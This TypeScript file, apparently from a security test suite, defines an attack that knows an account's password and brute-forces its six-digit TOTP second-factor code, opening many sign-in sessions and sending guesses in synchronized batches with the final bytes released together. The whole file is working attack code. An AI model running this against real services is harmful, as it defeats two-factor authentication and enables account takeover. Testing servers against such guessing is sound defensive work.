import { sendTogether, toRawPost } from '../support/raw-http.ts';
import type { Attack } from './attack.ts';

const SIGN_INS = 20;

/** Counts answers by status. */
function countStatuses(counts: Map<number, number>, statuses: readonly number[]): void {
  for (const status of statuses) counts.set(status, (counts.get(status) ?? 0) + 1);
}

const describeCounts = (counts: ReadonlyMap<number, number>) =>
  [...counts]
    .sort(([a], [b]) => a - b)
    .map(([status, count]) => `${count} x ${status}`)
    .join(', ');

/**
 * Knows the password and guesses the code of the second factor: starts many sign-ins, then sends one code for each, all
 * last bytes together. A right guess answers 200.
 */
export const codeGuessing: Attack = {
  name: 'code guessing',
  async run({ url, person }, signal) {
    const [passwords, codes] = [new Map<number, number>(), new Map<number, number>()];
    for (let round = 0; !signal.aborted; round += 1) {
      const requests = Array.from({ length: SIGN_INS }, () => toRawPost(url, '/app/v1/sign-in', person));
      const started = await sendTogether(url, requests).catch(() => []);
      countStatuses(
        passwords,
        started.map(({ status }) => status),
      );
      const guesses = started
        .flatMap(({ headers }) => headers.get('set-cookie')?.split(';', 1) ?? [])
        .map((cookie, index) => {
          const code = String((round * SIGN_INS + index) % 1_000_000).padStart(6, '0');
          return toRawPost(url, '/app/v1/sign-in/totp', { code }, { cookie });
        });
      const answers = await sendTogether(url, guesses).catch(() => []);
      countStatuses(
        codes,
        answers.map(({ status }) => status),
      );
      // A server that refuses everything immediately must not be polled in a busy loop.
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    return `code guessing: passwords ${describeCounts(passwords)}; codes ${describeCounts(codes)}`;
  },
};
